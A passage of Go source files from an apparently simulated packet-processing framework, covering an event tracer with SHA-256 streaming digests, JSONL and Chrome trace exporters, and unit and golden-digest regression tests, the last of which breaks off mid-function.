	// aggregate on the CPU and comparing digests. Actor = worker, Name =
	// device. A = task ID, B = packets compared, C = 1 on mismatch (0 =
	// digests agreed), D = device index.
	KindIntegrityCheck
	// KindIntegrityMismatch is a sentinel digest mismatch: the device's
	// result disagrees with the host re-execution. Actor = worker, Name =
	// device. A = task ID, B = packets in the aggregate, C =
	// math.Float64bits(device corruption score after the bump), D = device
	// index.
	KindIntegrityMismatch
	// KindIntegrityQuarantine is a mismatched aggregate being quarantined:
	// its packets are counted in QuarantinedPackets and never transmitted.
	// Actor = worker, Name = device. A = task ID, B = packets quarantined,
	// C = 0, D = device index.
	KindIntegrityQuarantine
	// KindIntegrityDemote is the integrity tracker escalating against a
	// device: ratcheting the ALB weight bounds down (A = 0), fail-stopping
	// the device (A = 1), or re-admitting it after a recovery probe
	// (A = 2). Actor = socket, Name = device. B =
	// math.Float64bits(corruption score), C = consecutive mismatches,
	// D = device index.
	KindIntegrityDemote

	numKinds
)

var kindNames = [numKinds]string{
	"dispatch",
	"batch",
	"gpu.submit",
	"gpu.copy_h2d",
	"gpu.launch",
	"gpu.kernel",
	"gpu.copy_d2h",
	"lb.update",
	"rx",
	"rx.drop",
	"fault.inject",
	"fault.recover",
	"fallback",
	"overload.shed",
	"overload.level",
	"overload.bias",
	"reconfig.begin",
	"reconfig.drain",
	"reconfig.commit",
	"integrity.check",
	"integrity.mismatch",
	"integrity.quarantine",
	"integrity.demote",
}

func (k Kind) String() string {
	if int(k) < len(kindNames) {
		return kindNames[k]
	}
	return "unknown"
}

// KindFromString resolves a kind name as written by the JSONL exporter. The
// second result reports whether the name is known.
func KindFromString(s string) (Kind, bool) {
	for i, n := range kindNames {
		if n == s {
			return Kind(i), true
		}
	}
	return 0, false
}

// MaskAll enables every event kind.
const MaskAll uint64 = 1<<numKinds - 1

// MaskOf builds an event mask from kinds.
func MaskOf(kinds ...Kind) uint64 {
	var m uint64
	for _, k := range kinds {
		m |= 1 << k
	}
	return m
}

// Event is one trace record. Payload slots A-D are kind-specific (see the
// Kind constants); they hold counts, byte volumes, picosecond durations or
// math.Float64bits-encoded fractions, all of which are exact integers so the
// stream digests and diffs bit-stably.
type Event struct {
	// Seq is the absolute event index in emission order, starting at 0. It
	// keeps its value even after older events fall out of the ring.
	Seq uint64
	// At is the virtual timestamp. Events are emitted in deterministic
	// order but At is not globally monotone: device-phase events carry
	// their scheduled completion times.
	At    simtime.Time
	Kind  Kind
	Actor int32
	// Tenant attributes the event to a tenant app graph (index into the
	// run's tenant set), or is NoTenant for substrate events (dispatch,
	// device phases, fault injections) that no single tenant owns. The
	// tenant is ring/export metadata only: it is deliberately NOT part of
	// the canonical digest encoding, so arming tenancy cannot move the
	// golden digests.
	Tenant int32
	Name   string
	A      int64
	B      int64
	C      int64
	D      int64
}

// NoTenant marks an event as unattributed to any tenant.
const NoTenant int32 = -1

// Checkpoint is a running-digest snapshot taken every CheckpointInterval
// events. Comparing checkpoint chains of two runs brackets the first
// diverging event without storing either full stream.
type Checkpoint struct {
	// Seq is the number of events covered by Digest (the next event would
	// have Seq == this value).
	Seq uint64
	// At is the timestamp of the last covered event.
	At simtime.Time
	// Digest is the running digest over events [0, Seq).
	Digest string
}

// Options configures a Tracer.
type Options struct {
	// Capacity is the number of events retained in the ring (default 65536).
	// The digest and checkpoints always cover all events regardless.
	Capacity int
	// Mask selects the recorded kinds; zero means all.
	Mask uint64
	// CheckpointInterval is the event spacing of digest checkpoints
	// (default 1024; negative disables checkpoints).
	CheckpointInterval int
}

// Tracer records structured events. The zero value is not usable; create
// with New. A nil *Tracer is a valid disabled tracer.
type Tracer struct {
	mask       uint64
	ring       []Event
	total      uint64
	dropped    uint64
	hash       hash.Hash
	scratch    []byte
	cpInterval uint64
	cps        []Checkpoint
	// tenantHash, when armed, accumulates the same canonical encoding as
	// the global digest but restricted to one tenant's events, giving each
	// tenant a replay-stable sub-digest even with co-tenants present.
	tenantHash []hash.Hash
	// tenantFinal holds the frozen digest of a sealed tenant ("" while the
	// tenant is live). Sealing happens at evict commit: the sub-digest
	// stops accumulating and TenantDigest keeps returning the final value.
	tenantFinal []string
}

// New creates a tracer.
func New(opts Options) *Tracer {
	if opts.Capacity <= 0 {
		opts.Capacity = 1 << 16
	}
	if opts.Mask == 0 {
		opts.Mask = MaskAll
	}
	interval := uint64(1024)
	switch {
	case opts.CheckpointInterval > 0:
		interval = uint64(opts.CheckpointInterval)
	case opts.CheckpointInterval < 0:
		interval = 0
	}
	return &Tracer{
		mask:       opts.Mask,
		ring:       make([]Event, opts.Capacity),
		hash:       sha256.New(),
		scratch:    make([]byte, 0, 128),
		cpInterval: interval,
	}
}

// Emit records one event unattributed to any tenant. It is safe (and a cheap
// no-op) on a nil tracer or a masked-out kind, and never allocates on the
// steady-state path.
//
//nba:hotpath
func (t *Tracer) Emit(at simtime.Time, k Kind, actor int32, name string, a, b, c, d int64) {
	t.EmitT(at, k, actor, NoTenant, name, a, b, c, d)
}

// EmitT records one event attributed to a tenant. The tenant index feeds the
// ring and, when per-tenant digests are armed, that tenant's sub-digest; the
// global digest encoding is unchanged, so a tenant-attributed event hashes
// identically to an unattributed one.
//
//nba:hotpath
func (t *Tracer) EmitT(at simtime.Time, k Kind, actor, tenant int32, name string, a, b, c, d int64) {
	if t == nil || t.mask&(1<<k) == 0 {
		return
	}
	idx := int(t.total % uint64(len(t.ring)))
	if t.total >= uint64(len(t.ring)) {
		t.dropped++
	}
	t.ring[idx] = Event{Seq: t.total, At: at, Kind: k, Actor: actor, Tenant: tenant, Name: name, A: a, B: b, C: c, D: d}
	t.total++

	// Streaming digest over the canonical little-endian encoding.
	buf := t.scratch[:0]
	buf = binary.LittleEndian.AppendUint64(buf, uint64(at))
	buf = append(buf, byte(k))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(actor))
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(name)))
	buf = append(buf, name...)
	buf = binary.LittleEndian.AppendUint64(buf, uint64(a))
	buf = binary.LittleEndian.AppendUint64(buf, uint64(b))
	buf = binary.LittleEndian.AppendUint64(buf, uint64(c))
	buf = binary.LittleEndian.AppendUint64(buf, uint64(d))
	t.scratch = buf[:0]
	t.hash.Write(buf)
	if tenant >= 0 && int(tenant) < len(t.tenantHash) && t.tenantFinal[tenant] == "" {
		t.tenantHash[tenant].Write(buf)
	}

	if t.cpInterval > 0 && t.total%t.cpInterval == 0 {
		t.cps = append(t.cps, Checkpoint{Seq: t.total, At: at, Digest: t.digestHex()}) //nbalint:allow hotalloc checkpoint append is amortised over cpInterval (>=1024) events
	}
}

// ArmTenantDigests allocates n per-tenant sub-digests. Events emitted via
// EmitT with tenant in [0, n) additionally feed that tenant's digest. Arming
// has no effect on the global digest. Safe on a nil tracer.
func (t *Tracer) ArmTenantDigests(n int) {
	if t == nil || n <= 0 {
		return
	}
	t.tenantHash = make([]hash.Hash, n)
	t.tenantFinal = make([]string, n)
	for i := range t.tenantHash {
		t.tenantHash[i] = sha256.New()
	}
}

// EnsureTenantDigests grows the armed per-tenant digest set to n slots,
// opening a fresh sub-digest for each new slot (tenant admission). Existing
// slots — their accumulated state and any seals — are untouched. A no-op
// when n slots already exist; safe on a nil tracer.
func (t *Tracer) EnsureTenantDigests(n int) {
	if t == nil || n <= len(t.tenantHash) {
		return
	}
	for len(t.tenantHash) < n {
		t.tenantHash = append(t.tenantHash, sha256.New())
		t.tenantFinal = append(t.tenantFinal, "")
	}
}

// SealTenantDigest freezes tenant i's sub-digest (evicted-tenant handoff):
// later events attributed to i no longer accumulate, and TenantDigest keeps
// returning the value at seal time. Returns the sealed digest, or "" when
// per-tenant digests are not armed or i is out of range. Sealing twice is
// idempotent.
func (t *Tracer) SealTenantDigest(i int) string {
	if t == nil || i < 0 || i >= len(t.tenantHash) {
		return ""
	}
	if t.tenantFinal[i] == "" {
		t.tenantFinal[i] = "sha256:" + hex.EncodeToString(t.tenantHash[i].Sum(nil))
	}
	return t.tenantFinal[i]
}

// TenantDigest returns tenant i's sub-digest in the form "sha256:<hex>" —
// the live running value, or the frozen one once sealed — or "" when
// per-tenant digests are not armed or i is out of range.
func (t *Tracer) TenantDigest(i int) string {
	if t == nil || i < 0 || i >= len(t.tenantHash) {
		return ""
	}
	if t.tenantFinal[i] != "" {
		return t.tenantFinal[i]
	}
	return "sha256:" + hex.EncodeToString(t.tenantHash[i].Sum(nil))
}

// Total returns the number of events emitted (including ones no longer in
// the ring).
func (t *Tracer) Total() uint64 {
	if t == nil {
		return 0
	}
	return t.total
}

// Dropped returns how many events were overwritten in the ring.
func (t *Tracer) Dropped() uint64 {
	if t == nil {
		return 0
	}
	return t.dropped
}

// Events returns the retained events in emission order.
func (t *Tracer) Events() []Event {
	if t == nil || t.total == 0 {
		return nil
	}
	n := uint64(len(t.ring))
	if t.total <= n {
		out := make([]Event, t.total)
		copy(out, t.ring[:t.total])
		return out
	}
	start := int(t.total % n)
	out := make([]Event, 0, n)
	out = append(out, t.ring[start:]...)
	out = append(out, t.ring[:start]...)
	return out
}

// Digest returns the streaming digest over every emitted event, in the form
// "sha256:<hex>". Digests are independent of the ring capacity.
func (t *Tracer) Digest() string {
	if t == nil {
		return "sha256:" + hex.EncodeToString(sha256.New().Sum(nil))
	}
	return t.digestHex()
}

func (t *Tracer) digestHex() string {
	// hash.Hash.Sum does not consume the running state, so the digest can
	// be snapshotted at any point (checkpoints rely on this).
	return "sha256:" + hex.EncodeToString(t.hash.Sum(nil))
}

// Checkpoints returns the digest checkpoints taken so far.
func (t *Tracer) Checkpoints() []Checkpoint {
	if t == nil {
		return nil
	}
	return append([]Checkpoint(nil), t.cps...)
}
