package trace

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"

	"nba/internal/simtime"
)

// Meta is the run-level header of an exported trace.
type Meta struct {
	// Tool-supplied description of the run (app, lb, seed, ...).
	Label string `json:"label,omitempty"`
	// Total is the number of events emitted during the run.
	Total uint64 `json:"total"`
	// Dropped is how many of those fell out of the ring before export.
	Dropped uint64 `json:"dropped"`
	// Digest is the streaming digest over all Total events.
	Digest string `json:"digest"`
}

// jsonlLine is the union of the three JSONL record shapes. Type is "meta",
// "cp" (checkpoint) or "ev" (event).
type jsonlLine struct {
	Type string `json:"type"`

	// meta
	Label   string `json:"label,omitempty"`
	Total   uint64 `json:"total,omitempty"`
	Dropped uint64 `json:"dropped,omitempty"`
	Digest  string `json:"digest,omitempty"`

	// cp + ev
	Seq uint64 `json:"seq,omitempty"`
	At  int64  `json:"at,omitempty"`

	// ev
	Kind  string `json:"kind,omitempty"`
	Actor int32  `json:"actor,omitempty"`
	// Tenant is exported as tenant index + 1 so that omitempty elides it
	// for unattributed events (and legacy traces read back as NoTenant).
	Tenant int32  `json:"tenant,omitempty"`
	Name   string `json:"name,omitempty"`
	A      int64  `json:"a,omitempty"`
	B      int64  `json:"b,omitempty"`
	C      int64  `json:"c,omitempty"`
	D      int64  `json:"d,omitempty"`
}

// File is a parsed JSONL trace.
type File struct {
	Meta        Meta
	Checkpoints []Checkpoint
	Events      []Event
}

// WriteJSONL exports the tracer state as JSON lines: one meta line, then the
// digest checkpoints, then the retained events in emission order.
func (t *Tracer) WriteJSONL(w io.Writer, label string) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	if err := enc.Encode(jsonlLine{
		Type:    "meta",
		Label:   label,
		Total:   t.Total(),
		Dropped: t.Dropped(),
		Digest:  t.Digest(),
	}); err != nil {
		return err
	}
	for _, cp := range t.Checkpoints() {
		if err := enc.Encode(jsonlLine{Type: "cp", Seq: cp.Seq, At: int64(cp.At), Digest: cp.Digest}); err != nil {
			return err
		}
	}
	for _, ev := range t.Events() {
		if err := enc.Encode(jsonlLine{
			Type: "ev",
			Seq:  ev.Seq, At: int64(ev.At),
			Kind: ev.Kind.String(), Actor: ev.Actor, Tenant: ev.Tenant + 1, Name: ev.Name,
			A: ev.A, B: ev.B, C: ev.C, D: ev.D,
		}); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// ReadJSONL parses a trace written by WriteJSONL.
func ReadJSONL(r io.Reader) (*File, error) {
	f := &File{}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 1<<16), 1<<22)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var ln jsonlLine
		if err := json.Unmarshal(raw, &ln); err != nil {
			return nil, fmt.Errorf("trace: line %d: %w", lineNo, err)
		}
		switch ln.Type {
		case "meta":
			f.Meta = Meta{Label: ln.Label, Total: ln.Total, Dropped: ln.Dropped, Digest: ln.Digest}
		case "cp":
			f.Checkpoints = append(f.Checkpoints, Checkpoint{Seq: ln.Seq, At: simtime.Time(ln.At), Digest: ln.Digest})
		case "ev":
			k, ok := KindFromString(ln.Kind)
			if !ok {
				return nil, fmt.Errorf("trace: line %d: unknown event kind %q", lineNo, ln.Kind)
			}
			f.Events = append(f.Events, Event{
				Seq: ln.Seq, At: simtime.Time(ln.At), Kind: k, Actor: ln.Actor, Tenant: ln.Tenant - 1, Name: ln.Name,
				A: ln.A, B: ln.B, C: ln.C, D: ln.D,
			})
		default:
			return nil, fmt.Errorf("trace: line %d: unknown record type %q", lineNo, ln.Type)
		}
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return f, nil
}

// chromeEvent is one entry of the Chrome trace_event JSON array format
// (https://docs.google.com/document/d/1CvAClvFfyA5R-PhYUmn5OOQtYMH4h6I0nSsKchNAySU).
type chromeEvent struct {
	Name string           `json:"name"`
	Cat  string           `json:"cat"`
	Ph   string           `json:"ph"`
	Ts   float64          `json:"ts"`  // microseconds
	Dur  float64          `json:"dur"` // microseconds (ph=X only)
	Pid  int              `json:"pid"`
	Tid  int32            `json:"tid"`
	Args map[string]int64 `json:"args,omitempty"`
}

const psPerUs = 1e6

// WriteChrome exports events in Chrome trace_event format ("Trace Event
// Format" JSON array, loadable in chrome://tracing and Perfetto). Phase
// events with a known start (GPU copy/kernel) become complete ("X") slices;
// everything else becomes instant ("i") events. Virtual picoseconds map to
// trace microseconds.
func WriteChrome(w io.Writer, events []Event) error {
	bw := bufio.NewWriter(w)
	if _, err := bw.WriteString("[\n"); err != nil {
		return err
	}
	enc := json.NewEncoder(bw)
	for i, ev := range events {
		ce := chromeEvent{
			Name: ev.Name,
			Cat:  ev.Kind.String(),
			Ph:   "i",
			Ts:   float64(ev.At) / psPerUs,
			Pid:  1,
			Tid:  ev.Actor,
			Args: map[string]int64{"seq": int64(ev.Seq), "a": ev.A, "b": ev.B, "c": ev.C, "d": ev.D},
		}
		if ce.Name == "" {
			ce.Name = ev.Kind.String()
		}
		switch ev.Kind {
		case KindGPUCopyH2D, KindGPUKernel, KindGPUCopyD2H:
			// C carries the phase start; At its end.
			start := float64(ev.C) / psPerUs
			ce.Ph = "X"
			ce.Ts = start
			ce.Dur = float64(ev.At)/psPerUs - start
			ce.Name = ev.Kind.String()
		}
		if i > 0 {
			if _, err := bw.WriteString(","); err != nil {
				return err
			}
		}
		if err := enc.Encode(ce); err != nil {
			return err
		}
	}
	if _, err := bw.WriteString("]\n"); err != nil {
		return err
	}
	return bw.Flush()
}
