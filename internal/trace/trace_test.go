package trace

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"nba/internal/simtime"
)

func emitN(t *Tracer, n int) {
	for i := 0; i < n; i++ {
		t.Emit(simtime.Time(i)*simtime.Microsecond, KindBatch, int32(i%4), "elem", int64(i), int64(i*2), 0, 0)
	}
}

func TestNilTracerIsSafe(t *testing.T) {
	var tr *Tracer
	tr.Emit(0, KindBatch, 0, "x", 1, 2, 3, 4)
	if tr.Total() != 0 || tr.Dropped() != 0 || tr.Events() != nil || tr.Checkpoints() != nil {
		t.Fatal("nil tracer must report empty state")
	}
	if got := tr.Digest(); !strings.HasPrefix(got, "sha256:") {
		t.Fatalf("nil digest = %q", got)
	}
	if tr.Digest() != New(Options{}).Digest() {
		t.Fatal("nil tracer digest must equal empty tracer digest")
	}
}

func TestDigestDeterministicAndSensitive(t *testing.T) {
	a, b := New(Options{}), New(Options{})
	emitN(a, 100)
	emitN(b, 100)
	if a.Digest() != b.Digest() {
		t.Fatal("identical streams must have identical digests")
	}
	c := New(Options{})
	emitN(c, 99)
	c.Emit(99*simtime.Microsecond, KindBatch, 3, "elem", 99, 199, 0, 0) // B differs by 1
	if a.Digest() == c.Digest() {
		t.Fatal("single-payload-bit change must change the digest")
	}
}

func TestDigestIndependentOfCapacity(t *testing.T) {
	small := New(Options{Capacity: 8})
	large := New(Options{Capacity: 1024})
	emitN(small, 300)
	emitN(large, 300)
	if small.Digest() != large.Digest() {
		t.Fatal("digest must cover all events regardless of ring capacity")
	}
	if small.Dropped() != 300-8 {
		t.Fatalf("dropped = %d, want %d", small.Dropped(), 300-8)
	}
}

func TestRingWraparoundOrder(t *testing.T) {
	tr := New(Options{Capacity: 16})
	emitN(tr, 40)
	evs := tr.Events()
	if len(evs) != 16 {
		t.Fatalf("retained %d events, want 16", len(evs))
	}
	for i, ev := range evs {
		want := uint64(40 - 16 + i)
		if ev.Seq != want {
			t.Fatalf("event %d: seq = %d, want %d", i, ev.Seq, want)
		}
	}
}

func TestMaskFiltersKinds(t *testing.T) {
	tr := New(Options{Mask: MaskOf(KindRx)})
	tr.Emit(0, KindBatch, 0, "elem", 1, 0, 0, 0)
	tr.Emit(0, KindRx, 0, "", 0, 8, 2, 0)
	if tr.Total() != 1 {
		t.Fatalf("total = %d, want 1 (batch masked out)", tr.Total())
	}
	if tr.Events()[0].Kind != KindRx {
		t.Fatal("retained event must be the rx event")
	}
}

func TestCheckpoints(t *testing.T) {
	tr := New(Options{CheckpointInterval: 10})
	emitN(tr, 35)
	cps := tr.Checkpoints()
	if len(cps) != 3 {
		t.Fatalf("got %d checkpoints, want 3", len(cps))
	}
	for i, cp := range cps {
		if cp.Seq != uint64((i+1)*10) {
			t.Fatalf("checkpoint %d: seq = %d", i, cp.Seq)
		}
	}
	// A second identical run produces the same chain; a perturbed run
	// diverges at the right window.
	tr2 := New(Options{CheckpointInterval: 10})
	emitN(tr2, 35)
	if _, _, div := DiffCheckpoints(cps, tr2.Checkpoints()); div {
		t.Fatal("identical runs must have identical checkpoint chains")
	}
	tr3 := New(Options{CheckpointInterval: 10})
	for i := 0; i < 35; i++ {
		b := int64(i * 2)
		if i == 17 {
			b++ // perturb one event in the second window
		}
		tr3.Emit(simtime.Time(i)*simtime.Microsecond, KindBatch, int32(i%4), "elem", int64(i), b, 0, 0)
	}
	lo, hi, div := DiffCheckpoints(cps, tr3.Checkpoints())
	if !div || lo != 10 || hi != 20 {
		t.Fatalf("divergence window = (%d,%d] div=%v, want (10,20]", lo, hi, div)
	}
}

func TestKindRoundTrip(t *testing.T) {
	for k := Kind(0); k < numKinds; k++ {
		got, ok := KindFromString(k.String())
		if !ok || got != k {
			t.Fatalf("kind %d round-trip failed: %q -> %v %v", k, k.String(), got, ok)
		}
	}
	if _, ok := KindFromString("bogus"); ok {
		t.Fatal("unknown kind name must not resolve")
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	tr := New(Options{Capacity: 64, CheckpointInterval: 16})
	emitN(tr, 50)
	tr.Emit(simtime.Millisecond, KindLBUpdate, 1, "alb", -42, 7, -1, 3)
	var buf bytes.Buffer
	if err := tr.WriteJSONL(&buf, "unit"); err != nil {
		t.Fatal(err)
	}
	f, err := ReadJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if f.Meta.Label != "unit" || f.Meta.Total != 51 || f.Meta.Digest != tr.Digest() {
		t.Fatalf("meta mismatch: %+v", f.Meta)
	}
	want := tr.Events()
	if len(f.Events) != len(want) {
		t.Fatalf("got %d events, want %d", len(f.Events), len(want))
	}
	for i := range want {
		if f.Events[i] != want[i] {
			t.Fatalf("event %d: %+v != %+v", i, f.Events[i], want[i])
		}
	}
	if len(f.Checkpoints) != len(tr.Checkpoints()) {
		t.Fatal("checkpoint count mismatch")
	}
}

func TestWriteChromeIsValidJSON(t *testing.T) {
	tr := New(Options{})
	emitN(tr, 5)
	// A GPU kernel phase event with C = start (ps) becomes a complete slice.
	tr.Emit(10*simtime.Microsecond, KindGPUKernel, 0, "gpu0", 1, 64, int64(4*simtime.Microsecond), 0)
	var buf bytes.Buffer
	if err := WriteChrome(&buf, tr.Events()); err != nil {
		t.Fatal(err)
	}
	var arr []map[string]any
	if err := json.Unmarshal(buf.Bytes(), &arr); err != nil {
		t.Fatalf("chrome export is not valid JSON: %v", err)
	}
	if len(arr) != 6 {
		t.Fatalf("got %d chrome events, want 6", len(arr))
	}
	last := arr[5]
	if last["ph"] != "X" {
		t.Fatalf("kernel phase should be a complete slice, got ph=%v", last["ph"])
	}
}

func TestDiff(t *testing.T) {
	a := New(Options{})
	b := New(Options{})
	emitN(a, 20)
	for i := 0; i < 20; i++ {
		bVal := int64(i * 2)
		if i == 13 {
			bVal = 999
		}
		b.Emit(simtime.Time(i)*simtime.Microsecond, KindBatch, int32(i%4), "elem", int64(i), bVal, 0, 0)
	}
	d := Diff(a.Events(), b.Events())
	if d == nil || d.Index != 13 {
		t.Fatalf("diff = %v, want divergence at 13", d)
	}
	if !strings.Contains(d.Delta, "b 26 != 999") {
		t.Fatalf("delta %q should name field b", d.Delta)
	}
	if Diff(a.Events(), a.Events()) != nil {
		t.Fatal("identical streams must not diverge")
	}
	// Length divergence.
	d = Diff(a.Events(), a.Events()[:10])
	if d == nil || d.Index != 10 || d.B != nil || d.A == nil {
		t.Fatalf("length diff = %+v", d)
	}
	if !strings.Contains(d.String(), "trace B ended") {
		t.Fatalf("report %q", d.String())
	}
}

func TestSummarize(t *testing.T) {
	tr := New(Options{})
	tr.Emit(0, KindDispatch, -1, "", 0, 0, 0, 0)
	tr.Emit(1, KindBatch, 0, "IPLookup", 32, 5000, 1, 0)
	tr.Emit(2, KindBatch, 0, "IPLookup", 16, 2500, 1, 0)
	tr.Emit(3, KindBatch, 0, "DecIPTTL", 32, 300, 2, 0)
	tr.Emit(4, KindRx, 0, "", 0, 32, 5, 0)
	tr.Emit(5, KindRxDrop, 0, "", 0, 7, 2, 0)
	tr.Emit(6, KindGPUSubmit, 0, "gpu0", 1, 64, 100, 0)
	tr.Emit(simtime.Time(9000), KindGPUKernel, 0, "gpu0", 1, 64, 1000, 0)
	tr.Emit(7, KindLBUpdate, 0, "alb", 4602678819172646912, 0, 1, 2) // W=0.5

	s := Summarize(tr.Events())
	if s.Dispatch != 1 {
		t.Fatalf("dispatch = %d", s.Dispatch)
	}
	if len(s.Elements) != 2 || s.Elements[0].Name != "DecIPTTL" || s.Elements[1].Name != "IPLookup" {
		t.Fatalf("elements not sorted: %+v", s.Elements)
	}
	ipl := s.Elements[1]
	if ipl.Batches != 2 || ipl.Packets != 48 || ipl.Cycles != 7500 {
		t.Fatalf("IPLookup profile: %+v", ipl)
	}
	if ipl.BatchSizes.Percentile(50) != 16 || ipl.BatchSizes.Max() != 32 {
		t.Fatal("batch-size quantiles wrong")
	}
	if len(s.Queues) != 1 || s.Queues[0].Delivered != 32 || s.Queues[0].Dropped != 7 {
		t.Fatalf("queues: %+v", s.Queues[0])
	}
	if len(s.Devices) != 1 || s.Devices[0].Tasks != 1 || s.Devices[0].Kernel != 8000 {
		t.Fatalf("devices: %+v", s.Devices[0])
	}
	if len(s.Balancers) != 1 || s.Balancers[0].FinalW != 0.5 {
		t.Fatalf("balancers: %+v", s.Balancers[0])
	}
	var buf bytes.Buffer
	if err := s.Write(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "IPLookup") {
		t.Fatal("report should mention IPLookup")
	}
}

func TestEmitDoesNotAllocate(t *testing.T) {
	tr := New(Options{Capacity: 1024, CheckpointInterval: -1})
	var i int64
	allocs := testing.AllocsPerRun(1000, func() {
		tr.Emit(simtime.Time(i), KindBatch, 0, "elem", i, i, i, i)
		i++
	})
	if allocs != 0 {
		t.Fatalf("enabled Emit allocates %v per call, want 0", allocs)
	}
	var nilTr *Tracer
	allocs = testing.AllocsPerRun(1000, func() {
		nilTr.Emit(0, KindBatch, 0, "elem", 1, 2, 3, 4)
	})
	if allocs != 0 {
		t.Fatalf("nil Emit allocates %v per call, want 0", allocs)
	}
}
