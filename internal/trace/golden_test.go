package trace_test

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"nba/internal/bench"
	"nba/internal/reconfig"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

var update = flag.Bool("update", false, "rewrite golden trace digests from the current code")

// goldenSpec returns the canonical short run every golden trace pins: small
// frame, one worker, modest load, fixed seed. Short enough that all eight
// app×variant runs finish in well under a second each.
func goldenSpec(app, lb string) bench.RunSpec {
	return bench.RunSpec{
		App:        app,
		LB:         lb,
		Size:       64,
		OfferedBps: 1e9,
		Workers:    1,
		Warmup:     200 * simtime.Microsecond,
		Duration:   2 * simtime.Millisecond,
		Seed:       42,
	}
}

// runTraced executes the spec with a fresh tracer attached and returns it.
func runTraced(t *testing.T, spec bench.RunSpec) *trace.Tracer {
	t.Helper()
	tr := trace.New(trace.Options{})
	spec.Tracer = tr
	if _, err := bench.Execute(spec); err != nil {
		t.Fatalf("%s/%s: %v", spec.App, spec.LB, err)
	}
	return tr
}

// golden is the pinned state of one canonical run.
type golden struct {
	Digest      string
	Total       uint64
	Checkpoints []trace.Checkpoint
}

func goldenPath(name string) string {
	return filepath.Join("testdata", "golden", name+".golden")
}

func writeGolden(t *testing.T, name string, tr *trace.Tracer) {
	t.Helper()
	var sb strings.Builder
	fmt.Fprintf(&sb, "# Golden trace digest for the %s run.\n", name)
	fmt.Fprintf(&sb, "# Regenerate intentionally with: go test ./internal/trace -run TestGoldenTraces -update\n")
	fmt.Fprintf(&sb, "digest %s\n", tr.Digest())
	fmt.Fprintf(&sb, "total %d\n", tr.Total())
	for _, cp := range tr.Checkpoints() {
		fmt.Fprintf(&sb, "cp %d %d %s\n", cp.Seq, int64(cp.At), cp.Digest)
	}
	if err := os.MkdirAll(filepath.Dir(goldenPath(name)), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(goldenPath(name), []byte(sb.String()), 0o644); err != nil {
		t.Fatal(err)
	}
}

func readGolden(t *testing.T, name string) golden {
	t.Helper()
	data, err := os.ReadFile(goldenPath(name))
	if err != nil {
		t.Fatalf("missing golden file (run with -update to create): %v", err)
	}
	var g golden
	for _, line := range strings.Split(string(data), "\n") {
		f := strings.Fields(line)
		if len(f) == 0 || strings.HasPrefix(f[0], "#") {
			continue
		}
		switch f[0] {
		case "digest":
			g.Digest = f[1]
		case "total":
			fmt.Sscanf(f[1], "%d", &g.Total)
		case "cp":
			var cp trace.Checkpoint
			var at int64
			fmt.Sscanf(f[1], "%d", &cp.Seq)
			fmt.Sscanf(f[2], "%d", &at)
			cp.At = simtime.Time(at)
			cp.Digest = f[3]
			g.Checkpoints = append(g.Checkpoints, cp)
		default:
			t.Fatalf("golden %s: unknown line %q", name, line)
		}
	}
	return g
}

// goldenCases is the canonical matrix: every sample app, CPU-only and
// offloaded (fixed fraction, so the offload split is deterministic without a
// controller transient).
var goldenCases = []struct{ app, lb string }{
	{"ipv4", "cpu"}, {"ipv4", "fixed=0.8"},
	{"ipv6", "cpu"}, {"ipv6", "fixed=0.8"},
	{"ipsec", "cpu"}, {"ipsec", "fixed=0.8"},
	{"ids", "cpu"}, {"ids", "fixed=0.8"},
}

func caseName(app, lb string) string {
	return app + "_" + strings.ReplaceAll(strings.ReplaceAll(lb, "=", ""), ".", "")
}

// TestGoldenTraces pins the trace digest of each canonical run. A failure
// means the run's event stream changed: either a regression, or an
// intentional behaviour change — in the latter case regenerate with -update
// and explain the change in the commit.
func TestGoldenTraces(t *testing.T) {
	for _, c := range goldenCases {
		c := c
		t.Run(caseName(c.app, c.lb), func(t *testing.T) {
			tr := runTraced(t, goldenSpec(c.app, c.lb))
			name := caseName(c.app, c.lb)
			if *update {
				writeGolden(t, name, tr)
				return
			}
			g := readGolden(t, name)
			if tr.Digest() == g.Digest && tr.Total() == g.Total {
				return
			}
			// First-divergence report: bracket with the checkpoint chains,
			// then show the retained events at the start of the window.
			t.Errorf("trace digest mismatch:\n  got  %s (%d events)\n  want %s (%d events)",
				tr.Digest(), tr.Total(), g.Digest, g.Total)
			lo, hi, div := trace.DiffCheckpoints(g.Checkpoints, tr.Checkpoints())
			if !div {
				// Chains agree over the common prefix: divergence is after the
				// last shared checkpoint.
				if n := len(g.Checkpoints); n > 0 {
					lo = g.Checkpoints[n-1].Seq
				}
				hi = tr.Total()
			}
			t.Errorf("first divergence in event window (%d, %d]", lo, hi)
			for _, ev := range tr.Events() {
				if ev.Seq >= lo && ev.Seq < lo+8 {
					t.Errorf("  event %d: at=%v kind=%s actor=%d name=%s a=%d b=%d c=%d d=%d",
						ev.Seq, ev.At, ev.Kind, ev.Actor, ev.Name, ev.A, ev.B, ev.C, ev.D)
				}
			}
		})
	}
}

// TestGoldenTracesUnchangedByEmptyReconfigPlan pins the reconfig disarm
// contract at the golden layer: attaching an empty (non-nil) reconfig plan to
// every canonical run must reproduce the committed golden digest
// byte-identically — arming the subsystem without scripting any epoch may not
// perturb the timeline at all.
func TestGoldenTracesUnchangedByEmptyReconfigPlan(t *testing.T) {
	for _, c := range goldenCases {
		c := c
		t.Run(caseName(c.app, c.lb), func(t *testing.T) {
			spec := goldenSpec(c.app, c.lb)
			spec.Reconfig = &reconfig.Plan{}
			tr := runTraced(t, spec)
			g := readGolden(t, caseName(c.app, c.lb))
			if tr.Digest() != g.Digest || tr.Total() != g.Total {
